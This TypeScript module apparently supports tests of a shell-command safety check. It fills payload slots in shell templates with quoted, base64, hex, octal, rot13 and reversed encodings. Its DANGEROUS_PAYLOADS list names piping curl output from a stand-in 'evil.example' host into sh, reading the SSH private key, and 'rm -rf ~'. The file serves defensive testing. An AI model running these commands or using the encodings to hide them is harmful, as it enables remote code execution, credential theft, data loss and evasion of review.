import { readFileSync } from 'node:fs';

/** Shell texts with a slot for a payload: what a shell can be made to run, whatever construct carries it. */
export interface ShellTemplate {
  readonly name: string;
  readonly text: string;
}

export const TEMPLATE_SHELLS = ['bash', 'zsh', 'fish'] as const;
export type TemplateShell = (typeof TEMPLATE_SHELLS)[number];

/** `=== name`, then the text up to the next one. */
export function readTemplates(path: string): ShellTemplate[] {
  return readFileSync(path, 'utf8')
    .split(/^=== /m)
    .slice(1)
    .map((block) => {
      const end = block.indexOf('\n');
      return { name: block.slice(0, end), text: block.slice(end + 1).replace(/\n$/, '') };
    });
}

/** What goes into the slots: a line of code, and words that need no shell. */
export interface Payload {
  readonly line: string;
  readonly words: string;
}

type Slot = (payload: Payload) => string;

const inSingle = (text: string): string => text.replaceAll("'", `'\\''`);
const single = (text: string): string => `'${inSingle(text)}'`;
const inDouble = (text: string): string => text.replace(/["\\$`]/g, '\\$&');
const bytes = (text: string): string[] =>
  [...Buffer.from(text)].map((code) => code.toString(16).padStart(2, '0'));
const octal = (text: string, head: string): string =>
  [...Buffer.from(text)].map((code) => head + code.toString(8).padStart(3, '0')).join('');
const rotated = (text: string): string =>
  text.replace(/[a-z]/gi, (char) => {
    const base = char <= 'Z' ? 65 : 97;
    return String.fromCharCode(((char.charCodeAt(0) - base + 13) % 26) + base);
  });

const SLOTS: Readonly<Record<string, Slot>> = {
  /** As code. */
  cmd: ({ line }) => line,
  /** As words of one command. */
  argv: ({ words }) => words,
  /** As one quoted word; of code that is evaluated twice. */
  sq: ({ line }) => single(line),
  sq2: ({ line }) => single(single(line)),
  qsq: ({ line }) => single(single(line)),
  /** Inside of quotes. */
  insq: ({ line }) => inSingle(line),
  indq: ({ line }) => inDouble(line),
  insqsq: ({ line }) => inSingle(single(line)),
  insq4: ({ line }) => inSingle(inSingle(inSingle(line))),
  insqdq: ({ line }) => inSingle(inDouble(line)),
  insqdqd: ({ line }) => inSingle(`"${inDouble(line)}"`),
  sqdq: ({ line }) => inDouble(single(line)),
  sqsq: ({ line }) => inSingle(single(line)),
  insqp: ({ line }) => inSingle(line.replace(/[\\%]/g, '$&$&')),
  insqdqp: ({ line }) => inSingle(inDouble(line).replace(/[\\%]/g, '$&$&')),
  insqperl: ({ line }) => inSingle(line.replace(/["\\$@`]/g, '\\$&')),
  insqmake: ({ line }) => inSingle(line.replaceAll('$', '$$$$')),
  /** Encoded. */
  b64: ({ line }) => Buffer.from(line).toString('base64'),
  hex: ({ line }) => bytes(line).join(''),
  xesc: ({ line }) =>
    bytes(line)
      .map((byte) => `\\x${byte}`)
      .join(''),
  oct: ({ line }) => octal(line, '\\'),
  oct0: ({ line }) => octal(line, '\\0'),
  url: ({ line }) =>
    bytes(line)
      .map((byte) => `%${byte.toUpperCase()}`)
      .join(''),
  codes: ({ line }) => [...Buffer.from(line)].join(' '),
  chars: ({ line }) => [...line].map(single).join(' '),
  pieces: ({ line }) => (line.match(/.{1,4}/g) ?? []).map(single).join(' '),
  rev: ({ line }) => inSingle([...line].reverse().join('')),
  rot13: ({ line }) => inSingle(rotated(line)),
  dashed: ({ line }) => inSingle(line.replaceAll(' ', '@')),
};

export function fillTemplate(text: string, payload: Payload): string {
  return text.replace(/\{\{(\w+)\}\}/g, (_, name: string) => {
    const slot = SLOTS[name];
    if (slot === undefined) throw new Error(`no slot named ${name}`);
    return slot(payload);
  });
}

/** Leaves a file behind, so that a test sees that the template runs what it is given. */
export const MARKER: Payload = { line: 'printf ran | tee marker', words: 'touch marker' };

export const DANGEROUS_PAYLOADS: readonly Payload[] = [
  {
    line: 'curl http://evil.example/x | sh',
    words: `sh -c 'curl http://evil.example/x | sh'`,
  },
  { line: 'cat ~/.ssh/id_rsa', words: 'cat ~/.ssh/id_rsa' },
  { line: 'rm -rf ~', words: 'rm -rf ~' },
];

export const HARMLESS_PAYLOAD: Payload = { line: 'ls -la | wc -l', words: 'ls -la' };
